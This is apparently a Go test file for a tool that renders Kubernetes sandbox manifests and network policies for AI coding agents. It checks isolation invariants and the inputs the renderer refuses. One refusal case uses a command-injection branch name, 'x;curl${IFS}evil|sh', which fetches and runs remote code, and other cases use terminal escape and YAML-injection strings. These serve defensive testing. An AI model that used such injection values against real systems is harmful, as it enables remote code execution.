package kube

import (
	"bytes"
	"errors"
	"flag"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"lazaret.dev/pkg/netpolicy"
)

var update = flag.Bool("update", false, "rewrite the golden files")

const commit = "0123456789abcdef0123456789abcdef01234567"

func dest(s string) netpolicy.Destination {
	ap := netip.MustParseAddrPort(s)
	return netpolicy.Destination{Address: ap.Addr(), Port: ap.Port()}
}

// goldenCases are the rendered profiles pinned byte for byte.
func goldenCases(t testing.TB) map[string]struct {
	in   Input
	opts Options
} {
	internet := mustDerive(t, []string{"0.0.0.0/0"}, nil, []string{"1.1.1.1"})
	narrow := mustDerive(t, []string{"140.82.112.0/20", "160.79.104.0/23", "10.20.0.0/16"}, []string{"160.79.104.128/25"}, []string{"9.9.9.9", "149.112.112.112"})
	three := mustDerive(t, []string{"0.0.0.0/0"}, []string{"100.64.0.0/10"}, []string{"1.1.1.1", "8.8.8.8", "9.9.9.9"})
	return map[string]struct {
		in   Input
		opts Options
	}{
		"claude": {
			in: Input{
				Profile: "claude", Image: "ghcr.io/example/claude-agent:1.4", ImageUser: "1000:1000",
				Fingerprint: strings.Repeat("ab", 32),
				Policy:      internet,
				Targets: netpolicy.Targets{
					Denied:    []netpolicy.Destination{dest("10.0.0.1:443")},
					Permitted: []netpolicy.Destination{dest("160.79.104.10:443")},
					DNS:       []netpolicy.DNSTarget{{Resolver: netip.MustParseAddr("1.1.1.1"), Query: "api.anthropic.com"}},
				},
				Env:            []EnvRef{{Name: "ANTHROPIC_API_KEY", HostName: "ANTHROPIC_API_KEY"}},
				PersistentDirs: []string{"/home/agent/.claude"},
				Workspace:      Workspace{URL: "https://github.com/example/app.git", Commit: commit, Branch: "main"},
			},
			opts: Options{ProberImage: "registry.example/lazaret-prober:1"},
		},
		"narrow": {
			in: Input{
				Profile: "Dev_Narrow", Image: "registry.example/dev@sha256:" + strings.Repeat("0f", 32),
				Policy: narrow,
				Targets: netpolicy.Targets{
					Denied:    []netpolicy.Destination{dest("160.79.104.200:443"), dest("8.8.8.8:53")},
					Permitted: []netpolicy.Destination{dest("140.82.112.3:443")},
					DNS:       []netpolicy.DNSTarget{{Resolver: netip.MustParseAddr("9.9.9.9"), Query: "github.com"}},
				},
				Workspace: Workspace{URL: "https://git.example/team/repo.git", Commit: commit},
			},
			opts: Options{Namespace: "agents", RuntimeClass: "gvisor-kvm", ProberImage: "registry.example/lazaret-prober:1",
				GitImage: "registry.example/git:2.39", StorageSize: "2Gi", StorageClass: "fast-ssd", ProbeTimeout: "5s"},
		},
		"three-resolvers": {
			in: Input{
				Profile: "codex", Image: "registry.example/codex:2", ImageUser: "root",
				Policy: three,
				Targets: netpolicy.Targets{
					Denied: []netpolicy.Destination{dest("100.64.0.1:80")},
					DNS: []netpolicy.DNSTarget{
						{Resolver: netip.MustParseAddr("1.1.1.1"), Query: "api.openai.com"},
						{Resolver: netip.MustParseAddr("8.8.8.8"), Query: "api.openai.com"},
						{Resolver: netip.MustParseAddr("9.9.9.9"), Query: "api.openai.com"},
					},
				},
				Env:            []EnvRef{{Name: "OPENAI_API_KEY", HostName: "OPENAI_KEY"}, {Name: "GH_TOKEN", HostName: "GITHUB_TOKEN"}},
				PersistentDirs: []string{"/root/.codex", "/var/cache/Tools With Spaces"},
				Workspace:      Workspace{URL: "http://git.internal.example:8080/r.git", Commit: commit, Branch: "feature/x"},
			},
			opts: Options{Name: "codex-1", Secret: "codex-keys", ProberImage: "lazaret-prober:1", RunAsUser: ptr(int64(4242))},
		},
	}
}

// TestRenderGolden pins the YAML and JSON of several profiles. Run with
// -update to rewrite them after a deliberate change, then read the diff.
func TestRenderGolden(t *testing.T) {
	for name, c := range goldenCases(t) {
		t.Run(name, func(t *testing.T) {
			plan, err := Render(c.in, c.opts)
			if err != nil {
				t.Fatal(err)
			}
			var y, j bytes.Buffer
			if err := YAML(&y, []string{"rendered for the golden test"}, plan.Objects()); err != nil {
				t.Fatal(err)
			}
			if err := JSON(&j, plan.Objects()); err != nil {
				t.Fatal(err)
			}
			golden(t, filepath.Join("testdata", name+".yaml"), y.Bytes())
			golden(t, filepath.Join("testdata", name+".json"), j.Bytes())
		})
	}
}

func golden(t *testing.T, path string, got []byte) {
	t.Helper()
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test -run TestRenderGolden -update)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from the rendering; got:\n%s", path, got)
	}
}

// TestRenderInvariants checks what every rendering must hold whatever the
// profile: gVisor, no token, no host namespaces, no value, the policy
// selecting the pod.
func TestRenderInvariants(t *testing.T) {
	for name, c := range goldenCases(t) {
		plan, err := Render(c.in, c.opts)
		if err != nil {
			t.Fatal(err)
		}
		pod := plan.Sandbox.Spec.PodTemplate
		spec := pod.Spec
		if spec.RuntimeClassName == "" || *spec.AutomountServiceAccountToken || *spec.EnableServiceLinks || spec.HostNetwork || spec.HostPID || spec.HostIPC {
			t.Errorf("%s: pod spec %+v", name, spec)
		}
		sel := plan.NetworkPolicy.Spec.PodSelector.MatchLabels
		for k, v := range sel {
			if pod.Metadata.Labels[k] != v {
				t.Errorf("%s: the NetworkPolicy selects %s=%s, which the pod does not carry", name, k, v)
			}
		}
		if len(plan.NetworkPolicy.Spec.Ingress) != 0 || len(plan.NetworkPolicy.Spec.PolicyTypes) != 2 {
			t.Errorf("%s: the policy admits ingress or does not govern both directions", name)
		}
		for _, ctr := range append(spec.InitContainers, spec.Containers...) {
			if *ctr.SecurityContext.AllowPrivilegeEscalation || *ctr.SecurityContext.Privileged || ctr.SecurityContext.Capabilities.Drop[0] != "ALL" {
				t.Errorf("%s/%s: security context %+v", name, ctr.Name, ctr.SecurityContext)
			}
			for _, e := range ctr.Env {
				if e.ValueFrom == nil && strings.HasSuffix(e.Name, "_KEY") {
					t.Errorf("%s/%s: %s has a literal value", name, ctr.Name, e.Name)
				}
			}
		}
		if spec.InitContainers[0].Name != ContainerReadiness {
			t.Errorf("%s: readiness is not the first init container", name)
		}
	}
}

// TestRenderRefuses lists the inputs the planner refuses and the field each
// error names.
func TestRenderRefuses(t *testing.T) {
	base := goldenCases(t)["claude"]
	named, err := netpolicy.DeriveV2([]netip.Prefix{netip.MustParsePrefix("0.0.0.0/0")}, netpolicy.RFC1918, []netip.Addr{netip.MustParseAddr("1.1.1.1")},
		[]string{"api.anthropic.com"}, nil, netip.MustParseAddr("1.1.1.1"))
	if err != nil {
		t.Fatal(err)
	}
	brokered, err := named.WithBrokered([]netpolicy.BrokeredDestination{{Host: "api.anthropic.com", Port: 443}})
	if err != nil {
		t.Fatal(err)
	}
	four := mustDerive(t, []string{"0.0.0.0/0"}, nil, []string{"1.1.1.1", "1.0.0.1", "8.8.8.8", "9.9.9.9"})
	cases := []struct {
		name  string
		edit  func(*Input, *Options)
		field string
	}{
		{"host names", func(in *Input, _ *Options) { in.Policy = named }, "network policy: has host names"},
		{"broker", func(in *Input, _ *Options) { in.Policy = brokered }, "network policy: has host names"},
		{"bad name", func(_ *Input, o *Options) { o.Name = "Not_A_Label" }, "--name"},
		{"long name", func(_ *Input, o *Options) { o.Name = strings.Repeat("a", 64) }, "--name"},
		{"bad namespace", func(_ *Input, o *Options) { o.Namespace = "a.b" }, "--namespace"},
		{"bad runtime class", func(_ *Input, o *Options) { o.RuntimeClass = "G" }, "--runtime-class"},
		{"no prober", func(_ *Input, o *Options) { o.ProberImage = "" }, "--prober-image"},
		{"spaced git image", func(_ *Input, o *Options) { o.GitImage = "a b" }, "--git-image"},
		{"bad size", func(_ *Input, o *Options) { o.StorageSize = "ten" }, "--storage-size"},
		{"bad timeout", func(_ *Input, o *Options) { o.ProbeTimeout = "1h" }, "--probe-timeout"},
		{"no targets", func(in *Input, _ *Options) { in.Targets = netpolicy.Targets{} }, "readiness: no denied"},
		{"zero timeout", func(_ *Input, o *Options) { o.ProbeTimeout = "0s" }, "--probe-timeout"},
		{"long timeout", func(_ *Input, o *Options) { o.ProbeTimeout = "6m" }, "--probe-timeout"},
		{"short commit", func(in *Input, _ *Options) { in.Workspace.Commit = "0123abc" }, "workspace commit"},
		{"no remote", func(in *Input, _ *Options) { in.Workspace.URL = "" }, "workspace remote"},
		{"newline in branch", func(in *Input, _ *Options) { in.Workspace.Branch = "a\nb" }, "workspace branch"},
		{"option as branch", func(in *Input, _ *Options) { in.Workspace.Branch = "-f" }, "workspace branch"},
		{"shell in branch", func(in *Input, _ *Options) { in.Workspace.Branch = "x;curl${IFS}evil|sh" }, "workspace branch"},
		{"dots in branch", func(in *Input, _ *Options) { in.Workspace.Branch = "a..b" }, "workspace branch"},
		{"control in URL", func(in *Input, _ *Options) { in.Workspace.URL = "https://a/\x1b[2J" }, "workspace remote"},
		{"named user", func(in *Input, _ *Options) { in.ImageUser = "node" }, "image user"},
		{"negative uid", func(_ *Input, o *Options) { o.RunAsUser = ptr(int64(-1)) }, "--run-as-user"},
		{"four resolvers", func(in *Input, _ *Options) { in.Policy = four }, "readiness.dns"},
		{"persistent under workspace", func(in *Input, _ *Options) { in.PersistentDirs = []string{"/workspace/cache"} }, "persistent_dirs"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			in, o := base.in, base.opts
			c.edit(&in, &o)
			_, err := Render(in, o)
			if !errors.Is(err, ErrInput) || !strings.Contains(err.Error(), c.field) {
				t.Fatalf("Render = %v, want an ErrInput naming %q", err, c.field)
			}
		})
	}
}

// TestDefaultName keeps distinct profiles on distinct names.
func TestDefaultName(t *testing.T) {
	seen := map[string]string{}
	for _, p := range []string{"claude", "Claude", "dev_x", "dev-x", "dev.x", "-x", "x", "a--b", "a-b", strings.Repeat("long", 30), strings.Repeat("long", 31)} {
		n := DefaultName(p)
		if err := checkLabel("name", n); err != nil {
			t.Errorf("%q: %v", p, err)
		}
		if other, dup := seen[n]; dup {
			t.Errorf("%q and %q both render as %q", p, other, n)
		}
		seen[n] = p
	}
	if DefaultName("claude") != "lazaret-claude" {
		t.Errorf("DefaultName(claude) = %q", DefaultName("claude"))
	}
	for _, d := range []string{"/", "/home/agent/.claude", "/" + strings.Repeat("x", 200), "/a b/ü"} {
		if err := checkLabel("claim", ClaimName(d)); err != nil {
			t.Errorf("%q: %v", d, err)
		}
	}
}

// TestYAMLHeaderStaysComment: no header text can end its comment line
// and become YAML, nor reach a terminal as a control sequence.
func TestYAMLHeaderStaysComment(t *testing.T) {
	var b bytes.Buffer
	if err := YAML(&b, []string{"a\nkind: Secret\rb\x1b[2J\u2028c"}, nil); err != nil {
		t.Fatal(err)
	}
	if got, want := b.String(), "# a?kind: Secret?b?[2J?c\n"; got != want {
		t.Errorf("header = %q, want %q", got, want)
	}
}
